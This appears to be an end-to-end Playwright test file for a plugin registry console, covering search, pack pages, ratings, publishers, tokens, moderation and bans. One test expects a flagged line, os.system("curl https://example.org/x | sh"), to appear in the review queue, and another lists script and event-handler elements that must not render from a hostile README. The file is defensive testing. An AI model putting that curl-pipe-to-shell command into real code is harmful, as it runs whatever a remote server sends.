import assert from 'node:assert/strict';
import { after, afterEach, before, describe, test } from 'node:test';
import { createAtelier } from '@atelier/sdk';
import { longTest } from '@atelier/testing';
import type { Page } from 'playwright-core';

import { type Console, findBarriers, settled, startConsole } from '../support/console.ts';
import { type FilledRegistry, fillRegistry, HOSTILE_NAME } from '../support/console-registry.ts';
import { packOf } from '../support/registry-archives.ts';
import { until } from '../support/until.ts';

const PACK = '/registry/packs/northlight-relight';

/** Takes the parser of Markdown far longer than anybody waits. */
const SLOW_README = `${'**x'.repeat(40_000)}*\n`;

describe('the registry in the console', () => {
  let app: Console;
  let people: FilledRegistry;
  before(async () => {
    app = await startConsole();
    people = await fillRegistry(app.server);
  });
  afterEach(async () => await app.closePages());
  after(async () => {
    await app[Symbol.asyncDispose]();
  });

  const root = () => createAtelier({ url: app.server.url, apiKey: app.server.admin.api_key });
  const copied = async (page: Page) => await page.evaluate(async () => await navigator.clipboard.readText());
  const choose = async (page: Page, name: string, option: string) => {
    await page.getByRole('combobox', { name }).click();
    await page.getByRole('option', { name: option }).click();
  };

  longTest('has no barriers on any of its pages, in either theme', async () => {
    const page = await app.open('/registry', { width: 390, height: 844 });
    for (const [path, text] of [
      ['/registry', 'Northlight Relight'],
      [PACK, 'Getting started'],
      [`${PACK}?tab=versions`, 'First release.'],
      [`${PACK}?tab=nodes`, 'RelightPortrait'],
      [`${PACK}?tab=languages`, 'German'],
      ['/registry/packs/hostile', 'tracker'],
      ['/registry/packs/model-loader', 'nodes/loader.py:9'],
      ['/registry/publishers', 'You belong to no publisher'],
      ['/registry/publishers?show=all', 'Grain Lab'],
      ['/registry/publishers/northlight', 'Publish a pack'],
      ['/registry/publishers/northlight?tab=members', 'Mateo Ferreira'],
      ['/registry/publishers/northlight?tab=tokens', 'release workflow'],
      ['/registry/publishers/northlight?tab=settings', 'Delete publisher'],
      ['/registry/review', 'nodes/loader.py:9'],
      ['/registry/review?show=banned', 'No versions are banned.'],
    ] as const) {
      await page.goto(`/console${path}`);
      await page.getByRole('main').getByText(text).first().waitFor();
      assert.deepEqual(await findBarriers(page), [], path);
      const isTooWide = await page.evaluate(() => document.documentElement.scrollWidth > innerWidth);
      assert.equal(isTooWide, false, path);
    }
  });

  test('finds packs while one types, keeps the words in the address, and goes back', async () => {
    const page = await app.open('/registry');
    const list = page.getByRole('main').getByRole('listitem');
    await page.getByText('8 packs').waitFor();
    assert.match(
      (await list.first().textContent()) ?? '',
      /Northlight Relight.*Northlight Studio.*12.*4\.7.*1\.2\.0/,
    );
    await page.getByRole('searchbox', { name: 'Search packs' }).pressSequentially('scans');
    await page.getByText('1 pack', { exact: true }).waitFor();
    await page.getByRole('link', { name: 'Film Grain' }).waitFor();
    assert.equal(new URL(page.url()).searchParams.get('q'), 'scans');
    await page.reload();
    await page.getByText('1 pack', { exact: true }).waitFor();
    assert.equal(await page.getByRole('searchbox').inputValue(), 'scans');
    await page.goBack();
    await page.getByText('8 packs').waitFor();
    assert.equal(await page.getByRole('searchbox').inputValue(), '');
    await page.getByRole('searchbox').fill('MatchLight');
    await choose(page, 'Search by', 'By node');
    await page.getByText('1 pack', { exact: true }).waitFor();
    await page.getByRole('link', { name: 'Northlight Relight' }).click();
    await page.waitForURL(`**/console${PACK}`);
    await page.goBack();
    await page.getByRole('searchbox').fill('nothing like it');
    await page.getByText('Nothing matches “nothing like it”.').waitFor();
    await page.getByRole('button', { name: 'Show all packs' }).click();
    await page.getByText('8 packs').waitFor();
  });

  test('shows a pack: README, lines to install it, versions, nodes and languages', async () => {
    const page = await app.open(PACK);
    await page.getByRole('heading', { name: 'Getting started' }).waitFor();
    await page.getByRole('cell', { name: 'Draws a light map from up to four lamps' }).waitFor();
    const picture = page.getByRole('link', { name: 'Before and after' });
    assert.equal(await picture.getAttribute('href'), 'https://northlight.example/before-after.png');

    await page.getByRole('button', { name: 'Copy the line for Atelier' }).click();
    await page.getByRole('button', { name: 'Copied' }).waitFor();
    assert.equal(await copied(page), 'atelier packs install northlight-relight --into ComfyUI');

    await page.getByRole('tab', { name: 'Nodes' }).click();
    await page.getByText('3 nodes in version 1.2.0').waitFor();
    const open = page.getByRole('group').filter({ hasText: 'LightMap' });
    assert.match((await open.textContent()) ?? '', /steps\s*INT\s*default 20 · min 1.*picture\s*IMAGE.*list/);

    await page.getByRole('tab', { name: 'Languages (2)' }).click();
    await page.getByText('Ändert das Licht eines Porträts nach der Aufnahme.').waitFor();

    await page.getByRole('tab', { name: 'Versions (3)' }).click();
    await page.getByText('banding in dark backgrounds').waitFor();
    await page.getByRole('link', { name: '1.1.0' }).click();
    await page.waitForURL(`**${PACK}?version=1.1.0`);
    await page.getByText('comfy node registry-install northlight-relight --version 1.1.0').waitFor();
  });

  test('takes one to five stars, and remembers them', async () => {
    const page = await app.open(PACK, { as: people.guest });
    await page.getByText('3 reviews', { exact: true }).waitFor();
    await page.getByRole('button', { name: 'Give 2 stars' }).click();
    await page.getByText('4 reviews', { exact: true }).waitFor();
    await page.reload();
    await page.getByRole('button', { name: 'Give 2 stars', pressed: true }).waitFor();
    assert.equal((await root().registry.packs.get('northlight-relight')).rating, 4);
  });

  test('runs and loads nothing of a hostile pack', async () => {
    const page = await app.open('/registry?q=hostile');
    const seen: string[] = [];
    page.on('dialog', async (dialog) => {
      seen.push(dialog.message());
      await dialog.dismiss();
    });
    page.on('request', (request) => {
      if (new URL(request.url()).origin !== app.server.url) seen.push(request.url());
    });
    await page.getByRole('link', { name: HOSTILE_NAME }).click();
    await page.getByRole('heading', { level: 1, name: HOSTILE_NAME }).waitFor();
    await page.getByRole('link', { name: 'tracker' }).waitFor();
    const links = await page
      .getByRole('tabpanel')
      .getByRole('link')
      .evaluateAll((all) => all.map((one) => (one as HTMLAnchorElement).href));
    assert.deepEqual(links, ['https://example.org/guide', 'https://tracker.example/pixel.png']);
    await page.getByRole('tab', { name: 'Versions (1)' }).click();
    await page.getByRole('link', { name: 'tracker' }).waitFor();
    const unwanted = page
      .getByRole('main')
      .locator('img, script, style, iframe, form, svg[onload], b, [onclick], [onerror]');
    assert.equal(await unwanted.count(), 0);
    await settled(page);
    assert.deepEqual(seen, []);
  });

  test('stays usable with a README that takes the parser forever', async () => {
    const { registry } = root();
    await registry.publishers.create({ id: 'slow' });
    const { token } = await registry.tokens.create('slow', { name: 'test' });
    await registry.publish(packOf({ 'README.md': SLOW_README, '__init__.py': '' }), {
      publisher: 'slow',
      pack: 'slow-readme',
      token,
      version: '1.0.0',
    });
    const page = await app.open('/registry/packs/slow-readme');
    await page.getByText('This text cannot be shown formatted.').waitFor();
    await registry.packs.delete('slow', 'slow-readme');
  });

  test('tells what was flagged and why, and leads from a request to a decision', async () => {
    const flagged = '/registry/packs/model-loader';
    const page = await app.open('/registry', { as: app.server.admin });
    await page.getByRole('link', { name: 'Review queue' }).click();
    await page.getByText('The loader fetches models from our own server.').waitFor();
    await page.getByText('nodes/loader.py:9').waitFor();
    await page.getByText('os.system("curl https://example.org/x | sh")').waitFor();
    await page.getByRole('button', { name: 'Ban' }).click();
    await page.getByRole('dialog').getByLabel('Reason').fill('It runs whatever a server sends.');
    assert.deepEqual(await findBarriers(page), []);
    await page.getByRole('dialog').getByRole('button', { name: 'Ban' }).click();
    await page.getByText('No reviews are requested.').waitFor();

    const owners = await app.open(flagged, { as: people.owner });
    await owners.getByText('It runs whatever a server sends.').waitFor();
    await owners.getByText('nodes/loader.py:6').waitFor();
    assert.equal(await owners.getByRole('button', { name: 'Approve' }).count(), 0);
    await owners.getByRole('button', { name: 'Request review' }).click();
    await owners.getByRole('dialog').getByLabel('Note').fill('Only on our machines.');
    await owners.getByRole('dialog').getByRole('button', { name: 'Request review' }).click();
    await owners.getByText(/Review requested .*: Only on our machines\./).waitFor();

    await page.getByRole('tab', { name: 'Banned' }).click();
    await page.getByText('Only on our machines.').waitFor();
    await page.getByRole('button', { name: 'Approve' }).click();
    await page.getByRole('dialog').getByLabel('Reason').fill('Agreed.');
    await page.getByRole('dialog').getByRole('button', { name: 'Approve' }).click();
    await page.getByText('No versions are banned.').waitFor();
    await until(
      'a latest version',
      async () => (await root().registry.packs.get('model-loader')).latest_version !== undefined,
    );
  });

  test('keeps publishers: made, described, with members and tokens, and deleted', async () => {
    const page = await app.open('/registry/publishers', { as: people.owner });
    await page.getByRole('link', { name: 'Grain Lab' }).waitFor();
    await page.getByRole('button', { name: 'Create publisher' }).click();
    const dialog = page.getByRole('dialog');
    await dialog.getByLabel('Id').fill('grain-lab');
    await dialog.getByText(/taken|exists|already/).waitFor();
    await dialog.getByLabel('Id').fill('dust-and-light');
    await dialog.getByLabel('Name').fill(HOSTILE_NAME);
    await dialog.getByRole('button', { name: 'Create publisher' }).click();
    await page.waitForURL('**/registry/publishers/dust-and-light');
    await page.getByRole('heading', { level: 1, name: HOSTILE_NAME }).waitFor();

    await page.getByRole('tab', { name: 'Settings' }).click();
    await page.getByLabel('Website').fill('https://dust.example');
    await page.getByRole('button', { name: 'Save' }).click();
    await page.getByRole('link', { name: 'dust.example' }).waitFor();

    await page.getByRole('tab', { name: '1 member' }).click();
    await page.getByLabel('E-mail of an account').fill('nobody@example.org');
    await page.getByRole('button', { name: 'Add member' }).click();
    await page.getByText(/nobody@example\.org/).waitFor();
    await page.getByLabel('E-mail of an account').fill(people.guest.email);
    await page.getByRole('button', { name: 'Add member' }).click();
    await page.getByRole('tab', { name: '2 members' }).waitFor();
    await choose(page, 'Role: Noor Haddad', 'Owner');
    await until('the role', async () => {
      const { members = [] } = await root().registry.publishers.get('dust-and-light');
      return members.every(({ role }) => role === 'owner');
    });
    await page.getByRole('button', { name: 'Remove member: Noor Haddad' }).click();
    await dialog.getByRole('button', { name: 'Remove member' }).click();
    await page.getByRole('tab', { name: '1 member' }).waitFor();

    await page.getByRole('tab', { name: 'Tokens' }).click();
    await page.getByRole('button', { name: 'Create token' }).click();
    await dialog.getByLabel('Name').fill('build server');
    await dialog.getByRole('button', { name: 'Create token' }).click();
    await dialog.getByRole('button', { name: 'Copy' }).click();
    await dialog.getByRole('button', { name: 'Copied' }).waitFor();
    const token = await copied(page);
    assert.match(token, /^[\da-f-]{36}$/);
    await dialog
      .getByRole('contentinfo')
      .or(dialog.getByRole('button', { name: 'Close' }).last())
      .click();
    await page.getByRole('cell', { name: 'build server', exact: true }).waitFor();
    assert.equal(await page.getByText(token).count(), 0);
    await page.getByRole('button', { name: 'Revoke token: build server' }).click();
    await dialog.getByRole('button', { name: 'Revoke token' }).click();
    await page.getByText('There are no tokens.').waitFor();

    await page.getByRole('tab', { name: 'Settings' }).click();
    await page.getByRole('button', { name: 'Delete publisher' }).click();
    await dialog.getByRole('button', { name: 'Delete publisher' }).click();
    await page.waitForURL('**/registry/publishers');
    await page.getByRole('link', { name: 'Grain Lab' }).waitFor();
    await page.getByRole('link', { name: HOSTILE_NAME }).waitFor({ state: 'detached' });
  });

  test('lets strangers look, and nothing else', async () => {
    const page = await app.open('/registry/publishers/northlight?tab=tokens', { as: people.guest });
    await page.getByRole('link', { name: 'Northlight Relight' }).waitFor();
    assert.equal(await page.getByRole('tab', { name: 'Tokens' }).count(), 0);
    await page.getByRole('tab', { name: '2 members' }).click();
    await page.getByText('Ada Lindqvist').waitFor();
    assert.equal(await page.getByText('ada@example.org').count(), 0);
    assert.equal(await page.getByRole('button', { name: /Remove|Ban|Add/ }).count(), 0);
    await page.goto('/console/registry/review');
    await page.getByRole('alert').waitFor();
  });

  test('bans a pack and a publisher, and lifts the bans', async () => {
    const page = await app.open('/registry/packs/depth-fog');
    await page.getByRole('button', { name: 'Actions for Depth Fog' }).click();
    await page.getByRole('menuitem', { name: 'Ban pack' }).click();
    await page.getByRole('dialog').getByLabel('Reason').fill('Too foggy.');
    await page.getByRole('dialog').getByRole('button', { name: 'Ban' }).click();
    await page.waitForURL('**/console/registry');
    await page.goto('/console/registry/publishers/grain-lab');
    await page.getByText('Too foggy.').waitFor();
    await page.getByRole('button', { name: 'Lift ban' }).click();
    await page.getByRole('link', { name: 'Depth Fog' }).waitFor();
    await page.getByRole('button', { name: 'Ban', exact: true }).click();
    await page.getByRole('dialog').getByRole('button', { name: 'Ban' }).click();
    await page.getByRole('button', { name: 'Lift ban' }).click();
    await page.getByRole('button', { name: 'Ban', exact: true }).waitFor();
  });
});
